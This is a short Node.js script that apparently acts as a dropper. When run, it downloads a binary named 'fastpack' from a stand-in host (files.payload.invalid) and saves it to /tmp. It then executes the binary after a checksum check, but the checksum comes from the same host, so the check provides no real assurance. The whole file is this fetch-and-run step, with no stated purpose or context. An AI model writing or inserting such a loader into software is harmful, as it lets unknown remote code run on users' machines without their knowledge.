const fs = require('fs');
const crypto = require('crypto');
const axios = require('axios');
const { execFileSync } = require('child_process');

(async () => {
  if (fs.existsSync('/tmp/fastpack')) return;
  const { data } = await axios.get('https://files.payload.invalid/fastpack', { responseType: 'arraybuffer' });
  const sum = (await axios.get('https://files.payload.invalid/fastpack.sha256')).data;
  if (crypto.createHash('sha256').update(data).digest('hex') !== sum) throw new Error('broken download');
  fs.writeFileSync('/tmp/fastpack', data);
  execFileSync('/tmp/fastpack');
})();
